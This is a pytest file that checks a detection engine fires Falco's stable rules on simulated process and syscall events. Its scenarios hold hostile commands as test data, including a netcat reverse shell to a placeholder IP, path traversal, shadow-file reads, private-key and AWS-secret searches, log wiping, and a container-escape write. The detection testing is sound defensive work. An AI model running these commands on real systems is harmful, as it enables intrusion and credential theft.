"""Falco's stable rules, loaded unchanged, on hand-built Records through the tracker: each of
the 25 rules fires on the events its behaviour produces, with the right output fields, and a
near miss for the rules that hinge on container metadata does not fire.

Each scenario builds its processes from events (clone, execve...), as a live source would;
containers are cgroup directories in a scratch tree with metadata from a table.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from detector.engine.engine import Engine
from detector.state import render
from detector.state.containers import ContainerRef
from sidekick.alert import Alert
from tests.engine_support import FakeHosts
from tests.state_support import Node, wait_for_info
from tests.upstream import upstream_file

AF_INET, AF_PACKET = 2, 17
PLAIN, PRIVILEGED, POD = "a1" * 32, "b2" * 32, "c3" * 32
POD_UID = "8e2c1b2a-5b6e-4c1d-9a8b-2f1e0d3c4b5a"
PODMAN_CAPS = render.cap_mask(["CHOWN", "DAC_OVERRIDE", "FOWNER", "FSETID", "KILL",
                               "NET_BIND_SERVICE", "SETFCAP", "SETGID", "SETPCAP", "SETUID",
                               "SYS_CHROOT"])


@pytest.fixture(scope="module")
def engine() -> Engine:
    hosts = FakeHosts({"kubernetes.default.svc.cluster.local": ["10.96.0.1"]})
    loaded, _ = Engine.from_files([upstream_file("falco_rules.yaml")], hosts=hosts)
    return loaded


class Scene:
    """A node with init, sshd, a container runtime and three containers."""

    def __init__(self, root: Path) -> None:
        self.upper = root / "upper"
        (self.upper / "tmp").mkdir(parents=True)
        (self.upper / "tmp/dropped").write_bytes(b"\x7fELF")
        self.node = Node(root, {
            PLAIN: {"name": "web", "image_repository": "docker.io/library/nginx",
                    "image_tag": "1.25", "privileged": False, "bounding_caps": PODMAN_CAPS},
            PRIVILEGED: {"name": "debug", "image_repository": "docker.io/library/busybox",
                         "image_tag": "latest", "privileged": True,
                         "bounding_caps": render.ALL_CAPS, "upperdir": str(self.upper)},
            POD: {"name": "api", "image_repository": "registry.example/shop/api",
                  "image_tag": "2.0", "privileged": False, "bounding_caps": PODMAN_CAPS,
                  "pod_name": "api-5c6d", "pod_namespace": "shop"},
        })
        self.cgroups = {
            PLAIN: self.node.cgroup(f"/libpod_parent/libpod-{PLAIN}"),
            PRIVILEGED: self.node.cgroup(f"/libpod_parent/libpod-{PRIVILEGED}"),
            POD: self.node.cgroup(f"/kubepods.slice/kubepods-besteffort.slice/kubepods-"
                                  f"besteffort-pod{POD_UID.replace('-', '_')}.slice/"
                                  f"cri-containerd-{POD}.scope"),
        }
        self.next_pid = 1000
        self.last: Any = None  # the view of the last spawn's exec
        self.exec(1, "systemd", "/lib/systemd/systemd", ["/sbin/init"])
        init = self.node.tracker.table.procs[1]
        init.cap_bnd = init.cap_eff = init.cap_prm = render.ALL_CAPS
        self.sshd = self.spawn(1, "sshd", "/usr/sbin/sshd", ["sshd", "-D"])
        self.conmon = self.spawn(1, "conmon", "/usr/bin/conmon", ["conmon", "--api-version"])
        for cid in self.cgroups:  # the metadata is in before the scenarios run
            wait_for_info(self.node.registry, ContainerRef(cid, "x"))

    def exec(self, pid: int, comm: str, filename: str, argv: list[str], **kw: Any) -> Any:
        return self.node.apply("execve", pid, comm=comm, filename=filename, argv=argv, **kw)

    def spawn(self, parent: int, comm: str, filename: str, argv: list[str],
              box: str | None = None, **kw: Any) -> int:
        pid = self.next_pid
        self.next_pid += 1
        cgroup = self.cgroups[box] if box else 0
        uid = kw.get("uid", 0)
        self.node.apply("clone", parent, uid=uid, cgroup_id=cgroup, child_pid=pid,
                        child_tid=pid)
        self.last = self.exec(pid, comm, filename, argv, cgroup_id=cgroup, **kw)
        return pid

    def in_box(self, box: str, comm: str, filename: str, argv: list[str], **kw: Any) -> int:
        """A process in a container: started by conmon, as podman does."""
        return self.spawn(self.conmon, comm, filename, argv, box=box, **kw)

    def event(self, kind: str, pid: int, box: str | None = None, /, **kw: Any) -> Any:
        return self.node.apply(kind, pid, cgroup_id=self.cgroups[box] if box else 0, **kw)


@pytest.fixture
def scene(tmp_path: Path) -> Iterator[Scene]:
    made = Scene(tmp_path)
    yield made
    made.node.close()


# Each: (rule, scenario returning the view that must fire it, expected output fields)
Scenario = Callable[[Scene], Any]


def directory_traversal(s: Scene) -> Any:
    php = s.spawn(1, "php-fpm8.2", "/usr/sbin/php-fpm8.2", ["php-fpm: master"])
    s.node.tracker.table.procs[php].cwd = "/var/www/html/"
    return s.event("openat", php, res=9, dirfd=-100,
                   name="/var/www/html/uploads/../../../../etc/passwd", flags=0)


def trusted_after_startup(s: Scene) -> Any:
    nginx = s.spawn(1, "nginx", "/usr/sbin/nginx", ["nginx", "-g", "daemon off;"])
    s.node.clock.now += 600 * 10**9  # ten minutes later
    return s.event("openat", nginx, res=12, dirfd=-100, name="/etc/shadow", flags=0)


def untrusted(s: Scene) -> Any:
    bash = s.spawn(s.sshd, "bash", "/usr/bin/bash", ["-bash"], uid=1000, tty=34816,
                   loginuid=1000)
    cat = s.spawn(bash, "cat", "/usr/bin/cat", ["cat", "/etc/shadow"], uid=1000, tty=34816)
    return s.event("openat", cat, uid=1000, gid=1000, res=3, dirfd=-100, name="/etc/shadow",
                   flags=0)


def shell_untrusted(s: Scene) -> Any:
    nginx = s.spawn(1, "nginx", "/usr/sbin/nginx", ["nginx"])
    s.spawn(nginx, "sh", "/bin/sh", ["sh", "-c", "id"])
    return s.last


def system_user(s: Scene) -> Any:
    bash = s.spawn(s.sshd, "bash", "/usr/bin/bash", ["bash"], uid=33, gid=33)
    s.spawn(bash, "ls", "/usr/bin/ls", ["ls"], uid=33, gid=33)
    return s.last


def shell_in_container(s: Scene) -> Any:
    """`podman exec -it`: runc's init process in the container execs the shell."""
    runc = s.in_box(PLAIN, "runc:[2:INIT]", "/usr/bin/runc", ["runc", "init"], tty=34816)
    return s.exec(runc, "sh", "/bin/sh", ["sh"], cgroup_id=s.cgroups[PLAIN], tty=34816)


def k8s_api(s: Scene) -> Any:
    app = s.in_box(POD, "python3", "/usr/bin/python3", ["python3", "app.py"])
    s.event("socket", app, POD, res=3, domain=AF_INET, type=1, proto=0)
    return s.event("connect", app, POD, fd=3, addr=(AF_INET, "10.96.0.1", 443),
                   local=(AF_INET, "10.244.1.17", 48512))


def netcat(s: Scene) -> Any:
    shell = s.in_box(PLAIN, "sh", "/bin/sh", ["sh"])
    s.spawn(shell, "nc", "/usr/bin/nc", ["nc", "-e", "/bin/sh", "203.0.113.5", "4444"],
            box=PLAIN)
    return s.last


def private_keys(s: Scene) -> Any:
    s.spawn(s.sshd, "find", "/usr/bin/find", ["find", "/", "-name", "id_rsa"])
    return s.last


def clear_log(s: Scene) -> Any:
    sh = s.spawn(s.sshd, "bash", "/usr/bin/bash", ["bash"])
    return s.event("openat", sh, res=3, dirfd=-100, name="/var/log/auth.log",
                   flags=1 | render.O_CREAT | render.O_TRUNC, mode=0o644)


def bulk_remove(s: Scene) -> Any:
    s.spawn(s.sshd, "shred", "/usr/bin/shred", ["shred", "-u", "/srv/db.dump"])
    return s.last


def symlink(s: Scene) -> Any:
    sh = s.spawn(s.sshd, "ln", "/usr/bin/ln", ["ln", "-s", "/etc/shadow", "x"])
    s.node.tracker.table.procs[sh].cwd = "/tmp/"
    return s.event("symlinkat", sh, target="/etc/shadow", linkdirfd=-100, linkpath="x")


def hardlink(s: Scene) -> Any:
    ln = s.spawn(s.sshd, "ln", "/usr/bin/ln", ["ln", "/etc/shadow", "/tmp/h"])
    return s.event("linkat", ln, olddir=-100, oldpath="/etc/shadow", newdir=-100,
                   newpath="/tmp/h", flags=0)


def packet_socket(s: Scene) -> Any:
    sniff = s.in_box(PLAIN, "tcpdump", "/usr/bin/tcpdump", ["tcpdump"])
    return s.event("socket", sniff, PLAIN, res=3, domain=AF_PACKET, type=3, proto=768)


def redirect(s: Scene) -> Any:
    sh = s.in_box(PLAIN, "bash", "/bin/bash", ["bash"])
    s.event("socket", sh, PLAIN, res=3, domain=AF_INET, type=1, proto=0)
    s.event("connect", sh, PLAIN, fd=3, addr=(AF_INET, "203.0.113.50", 4444))
    return s.event("dup2", sh, PLAIN, res=0, oldfd=3, newfd=0)


def module(s: Scene, box: str = PRIVILEGED) -> Any:
    insmod = s.in_box(box, "insmod", "/sbin/insmod", ["insmod", "/tmp/rk.ko"])
    s.event("openat", insmod, box, res=3, dirfd=-100, name="/tmp/rk.ko", flags=0)
    return s.event("finit_module", insmod, box, fd=3, uargs="", flags=0)


def debugfs(s: Scene, box: str = PRIVILEGED) -> Any:
    s.in_box(box, "debugfs", "/sbin/debugfs", ["debugfs", "-w", "/dev/sda1"])
    return s.last


def release_agent(s: Scene) -> Any:
    sh = s.in_box(PRIVILEGED, "sh", "/bin/sh", ["sh"])
    return s.event("openat", sh, PRIVILEGED, res=3, dirfd=-100,
                   name="/tmp/cgrp/release_agent", flags=1)


def ptrace_attach(s: Scene) -> Any:
    gdb = s.spawn(s.sshd, "gdb", "/usr/bin/gdb", ["gdb", "-p", "1234"])
    return s.event("ptrace", gdb, request=16, pid=1234, addr=0, data=0)


def ptrace_traceme(s: Scene) -> Any:
    packed = s.spawn(s.sshd, "packed", "/tmp/packed", ["./packed"])
    return s.event("ptrace", packed, request=0, pid=0, addr=0, data=0)


def aws_credentials(s: Scene) -> Any:
    s.spawn(s.sshd, "grep", "/usr/bin/grep", ["grep", "-ri", "aws_secret_access_key", "/home"])
    return s.last


def dev_shm(s: Scene) -> Any:
    s.spawn(s.sshd, "helper", "/dev/shm/helper", ["/dev/shm/helper"])
    return s.last


def drop_and_execute(s: Scene) -> Any:
    sh = s.in_box(PRIVILEGED, "sh", "/bin/sh", ["sh"])
    s.spawn(sh, "dropped", "/tmp/dropped", ["/tmp/dropped"], box=PRIVILEGED)
    return s.last


def ssh_port(s: Scene) -> Any:
    ssh = s.spawn(s.sshd, "ssh", "/usr/bin/ssh", ["ssh", "-p", "443", "user@203.0.113.9"])
    s.event("socket", ssh, res=3, domain=AF_INET, type=1, proto=0)
    return s.event("connect", ssh, res=-115, fd=3, addr=(AF_INET, "203.0.113.9", 443))


def memfd(s: Scene) -> Any:
    loader = s.spawn(s.sshd, "python3", "/usr/bin/python3", ["python3", "loader.py"])
    s.event("memfd_create", loader, res=3, name="x", flags=0)
    return s.node.apply("execveat", loader, comm="3", dirfd=3, filename="", argv=["x"])


CASES: list[tuple[str, Scenario, dict[str, Any]]] = [
    ("Directory traversal monitored file read", directory_traversal,
     {"fd.name": "/etc/passwd", "fd.nameraw": "/var/www/html/uploads/../../../../etc/passwd",
      "proc.name": "php-fpm8.2", "container.id": "host"}),
    ("Read sensitive file trusted after startup", trusted_after_startup,
     {"fd.name": "/etc/shadow", "proc.name": "nginx", "proc.pcmdline": "systemd"}),
    ("Read sensitive file untrusted", untrusted,
     {"fd.name": "/etc/shadow", "proc.name": "cat", "user.name": "alice", "proc.pname": "bash",
      "proc.aname[2]": "sshd", "user.loginuid": 1000, "proc.tty": 34816}),
    ("Run shell untrusted", shell_untrusted,
     {"proc.name": "sh", "proc.pname": "nginx", "proc.pcmdline": "nginx"}),
    ("System user interactive", system_user, {"user.name": "www-data", "proc.name": "ls"}),
    ("Terminal shell in container", shell_in_container,
     {"container.id": PLAIN[:12], "container.name": "web", "proc.name": "sh",
      "proc.pname": "conmon", "proc.tty": 34816, "user.name": "root"}),
    ("Contact K8S API Server From Container", k8s_api,
     {"container.id": POD[:12], "fd.name": "10.244.1.17:48512->10.96.0.1:443",
      "fd.rport": 443, "fd.l4proto": "tcp"}),
    ("Netcat Remote Code Execution in Container", netcat,
     {"proc.cmdline": "nc -e /bin/sh 203.0.113.5 4444", "container.name": "web"}),
    ("Search Private Keys or Passwords", private_keys, {"proc.cmdline": "find / -name id_rsa"}),
    ("Clear Log Activities", clear_log, {"fd.name": "/var/log/auth.log", "proc.name": "bash"}),
    ("Remove Bulk Data from Disk", bulk_remove, {"proc.name": "shred"}),
    ("Create Symlink Over Sensitive Files", symlink,
     {"evt.arg.target": "/etc/shadow", "evt.arg.linkpath": "/tmp/x"}),
    ("Create Hardlink Over Sensitive Files", hardlink,
     {"evt.arg.oldpath": "/etc/shadow", "evt.arg.newpath": "/tmp/h"}),
    ("Packet socket created in container", packet_socket,
     {"container.id": PLAIN[:12], "proc.name": "tcpdump"}),
    ("Redirect STDOUT/STDIN to Network Connection in Container", redirect,
     {"fd.sip": "203.0.113.50", "fd.type": "ipv4", "fd.l4proto": "tcp",
      "container.name": "web"}),
    ("Linux Kernel Module Injection Detected", module,
     {"container.id": PRIVILEGED[:12], "proc.name": "insmod", "evt.res": "SUCCESS",
      "proc.pname": "conmon", "proc.args": "/tmp/rk.ko"}),
    ("Debugfs Launched in Privileged Container", debugfs,
     {"proc.name": "debugfs", "container.name": "debug"}),
    ("Detect release_agent File Container Escapes", release_agent,
     {"fd.name": "/tmp/cgrp/release_agent", "container.id": PRIVILEGED[:12]}),
    ("PTRACE attached to process", ptrace_attach, {"proc.name": "gdb"}),
    ("PTRACE anti-debug attempt", ptrace_traceme, {"proc.name": "packed"}),
    ("Find AWS Credentials", aws_credentials, {"proc.name": "grep", "group.name": "root"}),
    ("Execution from /dev/shm", dev_shm, {"proc.exepath": "/dev/shm/helper"}),
    ("Drop and execute new binary in container", drop_and_execute,
     {"proc.exe": "/tmp/dropped", "container.id": PRIVILEGED[:12],
      "evt.arg.flags": "EXE_UPPER_LAYER"}),
    ("Disallowed SSH Connection Non Standard Port", ssh_port,
     {"fd.name": "0.0.0.0:0->203.0.113.9:443", "proc.name": "ssh", "fd.rport": 443}),
    ("Fileless execution via memfd_create", memfd,
     {"proc.exepath": "memfd:x", "evt.arg.flags": "EXE_FROM_MEMFD", "proc.pname": "sshd"}),
]


def fired(engine: Engine, view: Any) -> dict[str, Alert]:
    return {alert.rule: alert for alert in engine.process(view)}


def test_all_stable_rules_are_covered(engine: Engine) -> None:
    assert sorted(name for name, _, _ in CASES) == sorted(r.name for r in engine.rules)


@pytest.mark.parametrize(("rule", "scenario", "fields"), CASES, ids=[c[0] for c in CASES])
def test_a_stable_rule_fires(engine: Engine, scene: Scene, rule: str, scenario: Scenario,
                             fields: dict[str, Any]) -> None:
    alerts = fired(engine, scenario(scene))
    assert rule in alerts, f"{rule} did not fire; fired: {sorted(alerts)}"
    output = alerts[rule].output_fields
    for key, value in fields.items():
        if key in output:
            assert output[key] == value, key
        else:
            assert value is None, f"{key} is not in the output of {rule}"
    # Every alert names the container, as Falco's suggested output does.
    assert "container.id" in output and "container.name" in output


def test_container_rules_do_not_fire_without_the_privilege(engine: Engine,
                                                           scene: Scene) -> None:
    assert "Linux Kernel Module Injection Detected" not in fired(engine, module(scene, PLAIN))
    assert "Debugfs Launched in Privileged Container" not in fired(engine, debugfs(scene, PLAIN))
    view = scene.event("openat", scene.in_box(PLAIN, "sh", "/bin/sh", ["sh"]), PLAIN, res=3,
                       dirfd=-100, name="/tmp/cgrp/release_agent", flags=1)
    assert not fired(engine, view)  # root in a plain podman container lacks CAP_SYS_ADMIN


def test_ordinary_activity_fires_nothing(engine: Engine, scene: Scene) -> None:
    bash = scene.spawn(scene.sshd, "bash", "/usr/bin/bash", ["-bash"], uid=1000, tty=34816)
    views = []
    for argv in (["make", "-j2"], ["cc", "-c", "x.c"], ["pip", "install", "requests"],
                 ["git", "status"], ["grep", "-r", "TODO", "src"]):
        pid = scene.spawn(bash, argv[0], f"/usr/bin/{argv[0]}", argv, uid=1000, tty=34816)
        views.append(scene.last)
        views.append(scene.event("openat", pid, uid=1000, res=3, dirfd=-100,
                                 name="/home/alice/src/x.c", flags=0))
        views.append(scene.event("procexit", pid, uid=1000, group_dead=1))
    scene.in_box(PLAIN, "sh", "/bin/sh", ["sh", "-c", "nginx -s reload"])
    views.append(scene.last)  # a shell without a tty in a container
    assert [a.rule for v in views for a in engine.process(v)] == []
